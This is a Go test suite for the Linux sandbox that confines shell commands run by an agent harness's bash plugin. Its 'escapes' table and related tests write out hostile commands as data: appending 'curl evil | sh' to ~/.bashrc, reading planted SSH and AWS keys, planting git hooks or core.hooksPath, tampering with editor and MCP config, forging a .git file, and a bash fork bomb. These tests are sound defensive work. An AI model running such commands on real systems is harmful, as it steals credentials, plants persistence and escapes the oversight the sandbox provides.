//go:build linux

package main

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	seccomp "github.com/elastic/go-seccomp-bpf"

	"github.com/harness-dev/harness/pluginapi"
	"github.com/harness-dev/harness/pluginapi/pluginhost"
	"github.com/harness-dev/harness/pluginapi/plugintest"
	"github.com/harness-dev/harness/sandbox"
)

// sandboxed is a plugin served in process whose commands run in a
// sandbox of mode, with a test HOME holding planted credentials and
// harness's rules, and a project cwd that is a git repository holding
// .vscode and .mcp.json.
type sandboxed struct {
	fixture
	home    string
	outside string // a folder beside the project, outside every root
}

// original is the content of every planted file the escapes try to
// change.
const original = "ORIGINAL\n"

// newSandboxed makes the fixture; extra is more of the plugin's
// environment (HARNESS_BASH_NO_NAMESPACE for the fallback).
func newSandboxed(t *testing.T, mode sandbox.Mode, pids int, extra ...string) sandboxed {
	t.Helper()
	s, environ := plantSandboxed(t, mode)
	b := newPlugin(append(environ, extra...), t.TempDir())
	b.sbx.pidsLimit = pids
	s.c = plugintest.Start(t, b.plugin(), plugintest.WithStateDir(s.state))
	return s
}

// plantSandboxed makes the fixture's folders and files, and the plugin's
// environment, but no plugin.
func plantSandboxed(t *testing.T, mode sandbox.Mode) (sandboxed, []string) {
	t.Helper()
	root := t.TempDir()
	s := sandboxed{home: filepath.Join(root, "home"), outside: filepath.Join(root, "outside")}
	s.cwd = filepath.Join(root, "project")
	s.state = filepath.Join(root, "state")
	write := func(path, content string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write(filepath.Join(s.home, ".ssh", "id_ed25519"), "-----planted-ssh-key-----\n")
	write(filepath.Join(s.home, ".aws", "credentials"), "planted-aws-secret\n")
	write(filepath.Join(s.home, ".config", "harness", "permissions.json"), original)
	write(filepath.Join(s.home, ".bashrc"), original)
	write(filepath.Join(s.outside, "keep"), original)
	write(filepath.Join(s.cwd, "payload.json"), `{"allow":["*"]}`)
	write(filepath.Join(s.cwd, "hook.sh"), "#!/bin/sh\necho pwned\n")
	write(filepath.Join(s.cwd, ".vscode", "settings.json"), original)
	write(filepath.Join(s.cwd, ".mcp.json"), original)
	write(filepath.Join(s.cwd, "tree", ".git", "hooks", "pre-push"), "#!/bin/sh\necho pwned\n")
	if err := os.MkdirAll(s.state, 0o755); err != nil {
		t.Fatal(err)
	}
	git := exec.Command("git", "init", "-q", s.cwd)
	git.Env = append(os.Environ(), "HOME="+s.home)
	if out, err := git.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	// git init made .git/config; the tests compare it after.
	environ := []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + s.home, "LANG=C.UTF-8",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@example.com",
		envSandbox + "=" + string(mode),
	}
	return s, environ
}

// read is a file's content, "" when it does not exist.
func read(path string) string {
	b, _ := os.ReadFile(path)
	return string(b)
}

// exists reports whether path exists (a dangling symlink too).
func exists(path string) bool {
	_, err := os.Lstat(path)
	return err == nil
}

// escape is one attempt to write where the sandbox forbids it. escaped
// looks on disk and says what got through ("" when nothing did).
type escape struct {
	name    string
	line    string
	mountNS bool // held only with a mount namespace (a protected path inside the roots)
	escaped func(s sandboxed) string
}

// changed says path no longer holds original.
func changed(path string) string {
	if got := read(path); got != original {
		return fmt.Sprintf("%s now holds %q", path, got)
	}
	return ""
}

// created says path exists.
func created(path string) string {
	if exists(path) {
		return path + " was created"
	}
	return ""
}

func gitConfigChanged(s sandboxed) string {
	if strings.Contains(read(filepath.Join(s.cwd, ".git", "config")), "hooksPath") {
		return ".git/config now sets core.hooksPath"
	}
	return ""
}

// The payloads are absolute: the escapes cd around.
const vars = `P="$PWD/payload.json"; H="$PWD/hook.sh"; `

var escapes = []escape{
	{"cd config cp", vars + `cd ~/.config && cp $P harness/permissions.json`, false,
		func(s sandboxed) string { return changed(filepath.Join(s.home, ".config/harness/permissions.json")) }},
	{"glob config", vars + `cp $P ~/.config/harnes[s]/permissions.json`, false,
		func(s sandboxed) string { return changed(filepath.Join(s.home, ".config/harness/permissions.json")) }},
	{"bashrc", `printf 'curl evil | sh\n' >> ~/.bashrc`, false,
		func(s sandboxed) string { return changed(filepath.Join(s.home, ".bashrc")) }},
	{"hard link", `ln ~/.bashrc hl; echo evil >> hl`, false,
		func(s sandboxed) string { return changed(filepath.Join(s.home, ".bashrc")) }},
	{"symlink", `ln -s ~/.bashrc sl; echo evil >> sl`, false,
		func(s sandboxed) string { return changed(filepath.Join(s.home, ".bashrc")) }},
	{"outside the project", `echo x > ../outside/new; echo x > ../outside/keep`, false,
		func(s sandboxed) string {
			return created(filepath.Join(s.outside, "new")) + changed(filepath.Join(s.outside, "keep"))
		}},
	{"glob hooks", vars + `cd .gi[t]/hooks && cp $H pre-commit`, true,
		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-commit")) }},
	{"ansi-c hooks", vars + `cp $H $'\x2egit/hooks/post-checkout'`, true,
		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/post-checkout")) }},
	{"cp -r tree", `cp -r tree/. .`, true,
		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-push")) }},
	{"ln -s", vars + `ln -s $H .git/hooks/pre-rebase`, true,
		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-rebase")) }},
	{"install", vars + `install -m 755 $H .git/hooks/pre-merge-commit`, true,
		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-merge-commit")) }},
	{"python", `/usr/bin/python3 -c "open('.git/hooks/commit-msg','w').write('x')"`, true,
		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/commit-msg")) }},
	{"git config hooksPath", `git config core.hooksPath "$PWD/myhooks"`, true, gitConfigChanged},
	{"git -c hooksPath", `mkdir -p myhooks && git -c core.hooksPath=.git/hooks config --local core.hooksPath myhooks`, true, gitConfigChanged},
	{"move hooks away", vars + `mv .git/hooks .git/old-hooks; mkdir -p .git/hooks && cp $H .git/hooks/pre-commit`, true,
		func(s sandboxed) string { return created(filepath.Join(s.cwd, ".git/hooks/pre-commit")) }},
	{"vscode", `echo '{"tasks":[]}' > .vscode/tasks.json; echo x > .vscode/settings.json`, true,
		func(s sandboxed) string {
			return created(filepath.Join(s.cwd, ".vscode/tasks.json")) + changed(filepath.Join(s.cwd, ".vscode/settings.json"))
		}},
	{"mcp.json", `echo '{"mcpServers":{}}' | tee .mcp.json`, true,
		func(s sandboxed) string { return changed(filepath.Join(s.cwd, ".mcp.json")) }},
}

// TestSandboxEscapes: in workspace-write every escape fails on disk —
// with a mount namespace all of them; in the fallback without one (as
// where user namespaces are refused: Landlock and seccomp alone) those
// outside the roots. Each is run with the sandbox off too, to show it
// would have got through.
func TestSandboxEscapes(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			for _, e := range escapes {
				t.Run(e.name, func(t *testing.T) {
					t.Parallel()
					if strings.Contains(e.line, "python3") && !exists("/usr/bin/python3") && os.Getenv("CI") == "" {
						t.Skip("no /usr/bin/python3")
					}
					off := newSandboxed(t, sandbox.Off, 0, m.env...)
					res := off.sh(t, e.line)
					if e.escaped(off) == "" {
						t.Fatalf("with the sandbox off the escape did not get through; the row tests nothing:\n%s", res.Content)
					}
					s := newSandboxed(t, sandbox.WorkspaceWrite, 0, m.env...)
					res = s.sh(t, e.line)
					got := e.escaped(s)
					switch {
					case got != "" && (!e.mountNS || m.env == nil):
						t.Errorf("escaped the sandbox: %s\n%s", got, res.Content)
					case got != "":
						t.Logf("not held without a mount namespace (as Enforceable says): %s", got)
					case !strings.Contains(res.Content, "sandbox (workspace-write, network off) may have refused this") && !strings.Contains(e.line, "; ") && !strings.Contains(e.line, "&&") && !strings.Contains(e.line, "| tee"):
						t.Errorf("a refused write's result does not name the sandbox:\n%s", res.Content)
					}
				})
			}
		})
	}
}

// TestSandboxReads: the planted credentials read as nothing in
// workspace-write (a mount namespace is needed); readable with the
// sandbox off.
func TestSandboxReads(t *testing.T) {
	t.Parallel()
	for _, line := range []string{"cat ~/.ssh/id_ed25519", "cat ~/.aws/credentials", "ls -a ~/.ssh; cat ~/.ssh/*", "cat $HOME/.aws/*"} {
		t.Run(line, func(t *testing.T) {
			t.Parallel()
			off := newSandboxed(t, sandbox.Off, 0)
			if got := off.sh(t, line).Content; !strings.Contains(got, "planted") {
				t.Fatalf("with the sandbox off %s read nothing; the row tests nothing:\n%s", line, got)
			}
			s := newSandboxed(t, sandbox.WorkspaceWrite, 0)
			if got := s.sh(t, line).Content; strings.Contains(got, "planted") {
				t.Errorf("%s read a planted secret in the sandbox:\n%s", line, got)
			}
		})
	}
}

// listener accepts connections on 127.0.0.1 and counts them.
func listener(t *testing.T) (port int, accepted *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	accepted = &atomic.Int64{}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			_ = c.Close()
		}
	}()
	return l.Addr().(*net.TCPAddr).Port, accepted
}

// settled waits up to d for accepted to reach want, and returns it (the
// listener accepts in its own goroutine: a command can end before it
// counts the connection).
func settled(accepted *atomic.Int64, want int64, d time.Duration) int64 {
	deadline := time.Now().Add(d)
	for accepted.Load() < want && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	return accepted.Load()
}

// TestSandboxNetwork: with the network off a connection to a listener
// the test runs on 127.0.0.1 fails — a network namespace of its own, or
// seccomp's refusal in the fallback — through bash's /dev/tcp and
// python; with the sandbox off it connects.
func TestSandboxNetwork(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		for _, client := range []string{"bash", "python"} {
			t.Run(m.name+"/"+client, func(t *testing.T) {
				t.Parallel()
				if client == "python" && !exists("/usr/bin/python3") && os.Getenv("CI") == "" {
					t.Skip("no /usr/bin/python3")
				}
				port, accepted := listener(t)
				line := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)
				if client == "python" {
					line = fmt.Sprintf(`/usr/bin/python3 -c "import socket; socket.create_connection(('127.0.0.1', %d), 5); print('connected')"`, port)
				}
				off := newSandboxed(t, sandbox.Off, 0, m.env...)
				if got := off.sh(t, line).Content; !strings.Contains(got, "connected") || settled(accepted, 1, 5*time.Second) != 1 {
					t.Fatalf("with the sandbox off it did not connect (%d accepted); the row tests nothing:\n%s", accepted.Load(), got)
				}
				s := newSandboxed(t, sandbox.WorkspaceWrite, 0, m.env...)
				got := s.sh(t, line).Content
				if strings.Contains(got, "connected\n") || settled(accepted, 2, 500*time.Millisecond) != 1 {
					t.Errorf("connected from the sandbox (%d accepted):\n%s", accepted.Load(), got)
				}
				if !strings.Contains(got, "no network but loopback") {
					t.Errorf("the refused connection's result does not name the sandbox:\n%s", got)
				}
			})
		}
	}
}

// TestSandboxPids: 200 background sleeps pass a pids limit of 64 with
// the sandbox off; in it the forks past the limit are refused, and a
// fork bomb ends at its timeout, the test still running. Not parallel:
// in the fallback as a user other than root the limit is RLIMIT_NPROC
// over all of the user's processes (set at what runs plus 64), which
// other tests' processes would blur.
func TestSandboxPids(t *testing.T) {
	const spawn = `for i in $(seq 200); do sleep 30 & done 2>&1; echo started $(jobs -p | wc -l); kill $(jobs -p) 2>/dev/null`
	if _, err := sandbox.PidsCgroupParent(); err != nil && os.Getuid() == 0 {
		// Enforceable says so; a fork bomb would have no bound.
		t.Skipf("as root without a writable pids cgroup there is no pids limit (%v)", err)
	}
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			s := newSandboxed(t, sandbox.WorkspaceWrite, 64, m.env...)
			res := s.exec(t, call{args: map[string]any{"command": spawn, "timeout_ms": 30000}})
			if strings.Contains(res.Content, "started 200") || !strings.Contains(res.Content, "Resource temporarily unavailable") {
				t.Errorf("the pids limit did not hold:\n%s", res.Content)
			}
			within(t, 15*time.Second, "a fork bomb", func() {
				res = s.exec(t, call{args: map[string]any{"command": `b(){ b | b & }; b`, "timeout_ms": 3000}})
			})
			if s := s.sh(t, "echo alive").Content; s != "alive\n" {
				t.Errorf("after the fork bomb: %q", s)
			}
			off := newSandboxed(t, sandbox.Off, 64, m.env...)
			if got := off.sh(t, spawn).Content; !strings.Contains(got, "started 200") {
				t.Errorf("with the sandbox off 200 processes did not start; the row tests nothing:\n%s", got)
			}
		})
	}
}

// TestSandboxWorks: in workspace-write a git repository's cwd takes git
// add and commit (and a branch), the cwd and $TMPDIR take writes; the
// same commands work with the sandbox off.
func TestSandboxWorks(t *testing.T) {
	t.Parallel()
	// Off, TMPDIR is the plugin's (unset here); in the sandbox, its
	// private folder: /tmp is not writable there.
	const line = `t="${TMPDIR:-/tmp}/t$$"; echo a > f && echo b > "$t" && cat f "$t" && rm "$t" && git add . && git commit -qm first && ` +
		`git checkout -qb topic && echo c >> f && git commit -qam second && git log --oneline | wc -l`
	for _, m := range modes {
		for _, mode := range []sandbox.Mode{sandbox.WorkspaceWrite, sandbox.Off} {
			t.Run(m.name+"/"+string(mode), func(t *testing.T) {
				t.Parallel()
				s := newSandboxed(t, mode, 0, m.env...)
				if got := s.sh(t, line).Content; got != "a\nb\n2\n" {
					t.Errorf("got %q, want a, b and 2 commits", got)
				}
				if m.env == nil && mode == sandbox.WorkspaceWrite {
					// A private /dev/shm: shared memory works, nothing
					// reaches the machine's.
					name := fmt.Sprintf("/dev/shm/harness-sandbox-test-%d", os.Getpid())
					if got := s.sh(t, "echo shm > "+name+" && cat "+name).Content; got != "shm\n" {
						t.Errorf("/dev/shm: %q", got)
					}
					if exists(name) {
						_ = os.Remove(name)
						t.Errorf("the command's /dev/shm is the machine's")
					}
				}
				// The spill file of a cut output is read with grep, as
				// bash's description says, though harness's state is
				// hidden: the session's folder is shown, read-only.
				spill := spillIn(t, s.sh(t, "seq 1 20000").Content)
				if got := s.sh(t, "grep -c . "+spill+" && echo x >> "+spill).Content; !strings.HasPrefix(got, "20000\n") {
					t.Errorf("grep on the spill file: %q", got)
				}
				if n := strings.Count(read(spill), "\n"); n != 20000+map[bool]int{true: 1}[mode == sandbox.Off] {
					t.Errorf("the spill file has %d lines after a write to it", n)
				}
			})
		}
	}
}

// BenchmarkTrueSandboxed is BenchmarkTrue's spaced calls in the default
// sandbox (workspace-write, network off: a network namespace, mounts,
// Landlock, seccomp, a pids cgroup as root) and with the sandbox off, in
// a namespace and in the fallback (no init started ahead there).
func BenchmarkTrueSandboxed(b *testing.B) {
	for _, m := range modes {
		b.Run(m.name+"/workspace-write", func(b *testing.B) {
			benchTrue(b, 20*time.Millisecond, append(m.env, envSandbox+"=workspace-write")...)
		})
		b.Run(m.name+"/off", func(b *testing.B) { benchTrue(b, 20*time.Millisecond, append(m.env, envSandbox+"=off")...) })
	}
}

// TestSandboxBackground: a background task runs in the sandbox too: its
// write beside the project and its hook are refused; with the sandbox
// off both land.
func TestSandboxBackground(t *testing.T) {
	t.Parallel()
	const line = `sleep 0.2; echo x > ../outside/bg; echo x > .git/hooks/pre-commit; echo done`
	for _, mode := range []sandbox.Mode{sandbox.Off, sandbox.WorkspaceWrite} {
		t.Run(string(mode), func(t *testing.T) {
			t.Parallel()
			s := newSandboxed(t, mode, 0)
			id, _ := s.startTask(t, "", line)
			s.waitStatus(t, id, "exited with code 0")
			got := created(filepath.Join(s.outside, "bg")) + created(filepath.Join(s.cwd, ".git/hooks/pre-commit"))
			if escaped := got != ""; escaped != (mode == sandbox.Off) {
				t.Errorf("sandbox %s: %q escaped", mode, got)
			}
		})
	}
}

// TestSandboxCreatedProtected: without a mount namespace (the fallback)
// a protected name missing when the command starts gets no placeholder
// and cannot be bound read-only; the result names it when the command
// creates it. (In a namespace it gets a placeholder: placeholder_test.go.)
func TestSandboxCreatedProtected(t *testing.T) {
	t.Parallel()
	s := newSandboxed(t, sandbox.WorkspaceWrite, 0, envNoNamespace+"=1")
	if err := os.RemoveAll(filepath.Join(s.cwd, ".mcp.json")); err != nil {
		t.Fatal(err)
	}
	if got := s.sh(t, "ls -a").Content; strings.Contains(got, ".idea") || strings.Contains(got, ".zed") {
		t.Fatalf("the fallback made a placeholder in the project:\n%s", got)
	}
	got := s.sh(t, `echo '{"mcpServers":{}}' > .mcp.json; mkdir .idea`).Content
	for _, want := range []string{"created " + filepath.Join(s.cwd, ".idea") + ", " + filepath.Join(s.cwd, ".mcp.json"), "review them"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in:\n%s", want, got)
		}
	}
}

// TestSandboxForgedGitFile: a command cannot widen the next command's
// roots by leaving a .git file that names another folder (the home
// folder) as its git folder.
func TestSandboxForgedGitFile(t *testing.T) {
	t.Parallel()
	for _, m := range modes {
		t.Run(m.name, func(t *testing.T) {
			t.Parallel()
			s := newSandboxed(t, sandbox.WorkspaceWrite, 0, m.env...)
			s.sh(t, `rm -rf sub; mkdir sub && printf 'gitdir: %s\n' "$HOME" > sub/.git; mv .git .git-old 2>/dev/null; printf 'gitdir: %s\n' "$HOME" > .git`)
			if !exists(filepath.Join(s.cwd, "sub", ".git")) {
				t.Fatal("the forged .git file was not written; the test tests nothing")
			}
			s.sh(t, `echo evil >> ~/.bashrc`)
			s.exec(t, call{args: map[string]any{"command": `echo evil >> ~/.bashrc`, "workdir": "sub"}})
			if got := changed(filepath.Join(s.home, ".bashrc")); got != "" {
				t.Errorf("escaped through a forged .git file: %s", got)
			}
		})
	}
}

// envRefuseNamespaces names the plugin binary the test binary execs
// after loading a seccomp filter that refuses every new namespace
// (unshare, setns, clone with a namespace flag; clone3 ENOSYS), as a
// kernel without unprivileged user namespaces would, for the plugin and
// all it starts.
const envRefuseNamespaces = "BASH_TEST_REFUSE_NAMESPACES"

// refuseNamespaces loads that filter and execs plugin.
func refuseNamespaces(plugin string) int {
	runtime.LockOSThread()
	var clone []seccomp.NameWithConditions
	for _, f := range []uint64{syscall.CLONE_NEWNS, syscall.CLONE_NEWUTS, syscall.CLONE_NEWIPC, syscall.CLONE_NEWUSER,
		syscall.CLONE_NEWPID, syscall.CLONE_NEWNET, syscall.CLONE_NEWCGROUP} {
		clone = append(clone, seccomp.NameWithConditions{Name: "clone", Conditions: seccomp.ArgumentConditions{
			{Argument: 0, Operation: seccomp.BitsSet, Value: f}}})
	}
	err := seccomp.LoadFilter(seccomp.Filter{NoNewPrivs: true, Flag: seccomp.FilterFlagTSync, Policy: seccomp.Policy{
		DefaultAction: seccomp.ActionAllow,
		Syscalls: []seccomp.SyscallGroup{
			{Names: []string{"unshare", "setns"}, Action: seccomp.ActionErrno},
			{NamesWithCondtions: clone, Action: seccomp.ActionErrno},
			{Names: []string{"clone3"}, Action: seccomp.ActionErrno | seccomp.Action(syscall.ENOSYS)},
		},
	}})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	env := slices.DeleteFunc(os.Environ(), func(kv string) bool { return strings.HasPrefix(kv, envRefuseNamespaces+"=") })
	fmt.Fprintln(os.Stderr, syscall.Exec(plugin, []string{plugin}, env))
	return 1
}

// TestSandboxNamespacesRefused: the real plugin run where the kernel
// refuses every namespace (a seccomp filter on it): it falls back, and
// Landlock and seccomp alone hold the writes outside the roots and the
// network; the same commands get through with the sandbox off.
func TestSandboxNamespacesRefused(t *testing.T) {
	t.Parallel()
	port, accepted := listener(t)
	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)
	for _, mode := range []sandbox.Mode{sandbox.Off, sandbox.WorkspaceWrite} {
		t.Run(string(mode), func(t *testing.T) {
			s, environ := plantSandboxed(t, mode)
			c, err := pluginhost.Launch(context.Background(), pluginhost.LaunchConfig{
				Path: os.Args[0], SkipHostEnv: true, Env: append(environ, envRefuseNamespaces+"="+binary),
			})
			if err != nil {
				t.Fatalf("launch: %v", err)
			}
			t.Cleanup(func() { _ = c.Close() })
			if err := c.Configure(t.Context(), pluginapi.ConfigureRequest{HostVersion: "test", StateDir: s.state}); err != nil {
				t.Fatal(err)
			}
			s.c = c
			checkMode(t, s.fixture, false) // the kernel refused: the fallback
			before := accepted.Load()
			got := s.sh(t, connect).Content
			wait := 500 * time.Millisecond
			if mode == sandbox.Off {
				wait = 5 * time.Second
			}
			if connected := settled(accepted, before+1, wait) > before; connected != (mode == sandbox.Off) {
				t.Errorf("sandbox %s: connected %v:\n%s", mode, connected, got)
			}
			for _, e := range escapes {
				if e.mountNS || strings.Contains(e.line, "python3") && !exists("/usr/bin/python3") {
					continue
				}
				res := s.sh(t, e.line)
				if got := e.escaped(s); (got != "") != (mode == sandbox.Off) {
					t.Errorf("sandbox %s, %s: escaped %q\n%s", mode, e.name, got, res.Content)
				}
			}
		})
	}
}

// TestSandboxEscalation: a call with sandbox "off" runs that one command
// outside the sandbox only when the host sends it with sandbox mode off
// (it asked the user): without the host's sandbox it runs nothing; with
// it, it writes beside the project and reads the planted key; the next
// call, without it, is sandboxed again and its refused write's result
// names the sandbox and how to escalate.
func TestSandboxEscalation(t *testing.T) {
	t.Parallel()
	s := newSandboxed(t, sandbox.WorkspaceWrite, 0)
	outside := filepath.Join(s.outside, "escalated")
	args := map[string]any{"command": "echo hi > " + outside + "; cat ~/.ssh/id_ed25519",
		"sandbox": "off", "justification": "write beside the project"}
	res := s.exec(t, call{args: args})
	if exists(outside) || !strings.Contains(res.Content, "needs a host that asks the user first") {
		t.Fatalf("sandbox off without the host's sandbox: %q on disk\n%s", read(outside), res.Content)
	}
	res = s.exec(t, call{args: args, sandbox: &pluginapi.CallSandbox{Mode: "off", Network: "on"}})
	if read(outside) != "hi\n" || !strings.Contains(res.Content, "planted") {
		t.Fatalf("sandbox off did not run outside the sandbox: %q on disk\n%s", read(outside), res.Content)
	}
	again := filepath.Join(s.outside, "again")
	res = s.sh(t, "echo hi > "+again)
	if exists(again) {
		t.Fatalf("the next call ran outside the sandbox too:\n%s", res.Content)
	}
	for _, want := range []string{"sandbox (workspace-write, network off) may have refused this", `sandbox: "off"`, "justification", "the user will be asked"} {
		if !strings.Contains(res.Content, want) {
			t.Errorf("a refused write's result lacks %q:\n%s", want, res.Content)
		}
	}
}
